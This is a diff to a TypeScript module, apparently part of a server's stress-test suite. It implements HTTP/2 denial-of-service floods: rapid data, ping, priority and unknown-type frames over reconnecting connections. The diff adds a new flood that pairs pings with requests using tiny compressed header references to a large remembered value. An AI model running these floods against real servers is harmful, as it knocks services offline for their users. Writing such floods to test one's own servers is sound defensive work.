@@ -1,6 +1,13 @@
 // Frames of HTTP/2 that ask for nothing, as fast as they are read, over connections that come back when they are closed.
 import type { TLSSocket } from 'node:tls';
-import { frame, frameTypes, openRudeHttp2, request } from '../support/rude-http2.ts';
+import {
+  frame,
+  frameTypes,
+  lastRemembered,
+  openRudeHttp2,
+  remembered,
+  request,
+} from '../support/rude-http2.ts';
 import type { Attack } from './attack.ts';
 
 const rounds = 5;
@@ -8,8 +15,14 @@ const connections = 2;
 /** Of one connection; it is closed long before. */
 export const bytesMax = 67_108_864;
 
-/** What is sent first, and then over and over. */
-export const floods: Record<string, { first: Buffer; block: Buffer }> = {
+interface Flood {
+  /** What is sent first. */
+  first: Buffer;
+  /** And then, the `at`th time. */
+  block(at: number): Buffer;
+}
+
+export const floods: Record<string, Flood> = {
   'a body of one-byte frames to a path that takes none': flood(
     frame({ type: frameTypes.data, stream: 1, body: Buffer.from('x') }),
     request({ stream: 1, path: '/livez', method: 'POST', isOpen: true }),
@@ -29,6 +42,9 @@ export const floods: Record<string, { first: Buffer; block: Buffer }> = {
   priorities: flood(frame({ type: frameTypes.priority, stream: 1, body: Buffer.alloc(5) })),
   pings: flood(frame({ type: frameTypes.ping, body: Buffer.alloc(8) })),
   'frames of no kind': flood(frame({ type: 0xfa })),
+  'pings beside requests whose long heads are four bytes': besideRequests(
+    frame({ type: frameTypes.ping, body: Buffer.alloc(8) }),
+  ),
 };
 
 export const attack: Attack = {
@@ -68,9 +84,12 @@ export async function sendFrames(
   socket.resume();
   socket.write(first);
   let sent = 0;
+  let at = 0;
   while (!isClosed && !given.signal.aborted && sent < bytesMax) {
-    const isTaken = socket.write(block);
-    sent += block.length;
+    const bytes = block(at);
+    const isTaken = socket.write(bytes);
+    sent += bytes.length;
+    at += 1;
     if (!isTaken) await Promise.race([closed, drained(socket)]);
   }
   given.signal.removeEventListener('abort', leave);
@@ -83,6 +102,19 @@ function drained(socket: TLSSocket): Promise<void> {
   return new Promise((resolve) => socket.once('drain', () => resolve()));
 }
 
-function flood(over: Buffer, first: Buffer = Buffer.alloc(0)) {
-  return { first, block: Buffer.concat(Array.from({ length: 4_000 }, () => over)) };
+function flood(over: Buffer, first: Buffer = Buffer.alloc(0)): Flood {
+  const block = Buffer.concat(Array.from({ length: 4_000 }, () => over));
+  return { first, block: () => block };
+}
+
+/** As many frames as the head of the request beside them is long. */
+function besideRequests(over: Buffer): Flood {
+  const value = 'y'.repeat(3_900);
+  const path = '/livez';
+  const frames = Buffer.concat(Array.from({ length: 800 }, () => over));
+  const more = Buffer.concat(Array.from({ length: 4 }, () => lastRemembered));
+  return {
+    first: request({ stream: 1, path, more: remembered('x', value) }),
+    block: (at) => Buffer.concat([request({ stream: 2 * at + 3, path, more }), frames]),
+  };
 }
